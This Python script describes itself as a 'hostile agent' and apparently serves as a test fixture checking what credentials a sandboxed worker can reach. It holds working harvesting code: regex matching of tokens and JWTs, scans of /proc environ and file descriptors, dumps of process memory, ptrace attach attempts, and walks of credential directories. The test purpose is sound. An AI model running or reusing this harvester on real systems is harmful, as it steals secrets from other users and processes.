"""A hostile agent: it looks for credentials wherever its user can read, and prints those it found as JSON.

It runs as a worker's command, outside of the tests' modules, so it uses only Python's standard library."""

import ctypes
import json
import os
import re
import stat
import sys

CREDENTIAL = re.compile(
    rb"(?:tnr|mob|evr|cog|prb)_[a-z2-7]{52}|turn_[0-9a-f]{32}_[a-z2-7]{52}|eyJ[\w-]+\.[\w-]+\.[\w-]+|TENURE_TOKEN=[^\0\n]*"
)
MOST = 4 << 20
found = {}


def look(where, data):
    for hit in CREDENTIAL.findall(data):
        found.setdefault(hit.decode(errors="replace"), where)


def read(path, at=0, most=MOST):
    """The file's bytes, or the error text."""
    try:
        file = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError as error:
        return error.strerror
    try:
        return os.pread(file, most, at) if at else os.read(file, most)
    except OSError as error:
        return error.strerror
    finally:
        os.close(file)


def memory(pid):
    """Reads all readable memory of a process."""
    maps = read(f"/proc/{pid}/maps")
    if not isinstance(maps, bytes):
        return maps
    try:
        mem = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    except OSError as error:
        return error.strerror
    for line in maps.splitlines():
        span, mode = line.split()[:2]
        start, end = (int(half, 16) for half in span.split(b"-"))
        if mode.startswith(b"r") and end - start < 64 * MOST and start < 1 << 62:
            try:
                look(f"memory of {pid}", os.pread(mem, end - start, start))
            except OSError:
                pass
    os.close(mem)
    return "read"


def process(pid):
    """Which files of a process are readable: for each, `read` or the error text."""
    seen = {}
    for name in ("environ", "cmdline", "auxv", "stat", "status", "io", "syscall"):
        data = read(f"/proc/{pid}/{name}")
        if isinstance(data, bytes):
            look(f"{name} of {pid}", data)
        seen[name] = "read" if isinstance(data, bytes) else data
    seen["mem"] = memory(pid)
    for name in ("fd", "map_files", "task"):
        try:
            files = os.listdir(f"/proc/{pid}/{name}")
            seen[name] = "read"
        except OSError as error:
            files, seen[name] = [], error.strerror
        for file in files if name == "fd" else []:
            data = read(f"/proc/{pid}/fd/{file}")
            if isinstance(data, bytes):
                look(f"file {file} of {pid}", data)
    for name in ("cwd", "root", "exe"):
        try:
            seen[name] = "read" if os.readlink(f"/proc/{pid}/{name}") else ""
        except OSError as error:
            seen[name] = error.strerror
    libc = ctypes.CDLL(None, use_errno=True)
    attached = libc.ptrace(ctypes.c_long(16), ctypes.c_long(pid), None, None)
    seen["ptrace"] = "read" if attached == 0 else os.strerror(ctypes.get_errno())
    if attached == 0:
        # The process stops a moment later. Detaching before that would leave it stopped, and it can be the shell that runs
        # this program.
        os.waitpid(pid, 0x40000000)
        libc.ptrace(ctypes.c_long(17), ctypes.c_long(pid), None, None)
    return seen


def parents():
    pid, chain = os.getppid(), []
    while pid > 0:
        chain.append(pid)
        status = read(f"/proc/{pid}/status")
        if not isinstance(status, bytes):
            break
        pid = int(re.search(rb"PPid:\s*(\d+)", status).group(1))
    return chain


def walk(top):
    for folder, _, names in os.walk(top):
        for name in names:
            path = os.path.join(folder, name)
            try:
                plain = stat.S_ISREG(os.lstat(path).st_mode)
            except OSError:
                continue
            data = read(path) if plain else None
            if isinstance(data, bytes) and not path.endswith("hostile.py"):
                look(path, data)


def main():
    inherited = sorted(int(number) for number in os.listdir("/proc/self/fd"))[:-1]
    look("standard input", sys.stdin.buffer.read())
    look("environment", "\0".join(f"{name}={value}" for name, value in os.environ.items()).encode())
    chain = parents()
    seen = {pid: process(pid) for pid in chain}
    for pid in sorted(int(name) for name in os.listdir("/proc") if name.isdigit()):
        if pid not in seen and pid != os.getpid():
            process(pid)
    for top in (os.getcwd(), *sys.argv[1:], "/tmp", os.environ.get("HOME", "/nonexistent"), "/etc/tenure", "/run/credentials"):
        walk(top)
    print(json.dumps({
        "found": found, "inherited": inherited, "parents": {str(pid): seen[pid] for pid in chain},
        "variables": sorted(name for name in os.environ if name.startswith("TENURE")), "groups": os.getgroups(), "uid": os.getuid(),
    }))


main()
